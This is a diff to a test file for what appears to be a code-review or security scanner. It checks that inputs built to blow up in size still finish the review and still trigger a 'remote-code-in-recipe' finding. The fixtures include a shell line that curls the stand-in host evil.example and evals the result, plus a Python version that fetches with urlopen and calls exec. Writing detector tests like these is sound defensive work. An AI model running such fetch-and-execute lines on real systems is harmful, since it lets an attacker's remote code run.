@@ -137,9 +137,14 @@ test("a few letters that stand for gigabytes do not end the review", async () =>
   expect(findings.map(({ rule }) => rule)).toContain("remote-code-in-recipe");
 });
 
-test("a variable that doubles where it comes from does not end the review", async () => {
-  const bomb = script(`a=$(curl https://evil.example/x)\n${'a="$a$a"\n'.repeat(40)}eval "$a"\n`);
-  const { complete, findings } = await reviewOf({ "a.sh": script("") }, { "a.sh": bomb });
+test.each([
+  ["a.sh", script(`a=$(curl https://evil.example/x)\n${'a="$a$a"\n'.repeat(40)}eval "$a"\n`)],
+  [
+    "a.py",
+    `from urllib.request import urlopen\na = urlopen("x").read()\n${"a = a + a\n".repeat(40)}exec(a)\n`,
+  ],
+])("a variable that doubles where it comes from does not end the review: %s", async (path, bomb) => {
+  const { complete, findings } = await reviewOf({ [path]: "" }, { [path]: bomb });
   expect(complete).toBe(true);
   expect(findings.map(({ rule }) => rule)).toContain("remote-code-in-recipe");
 });
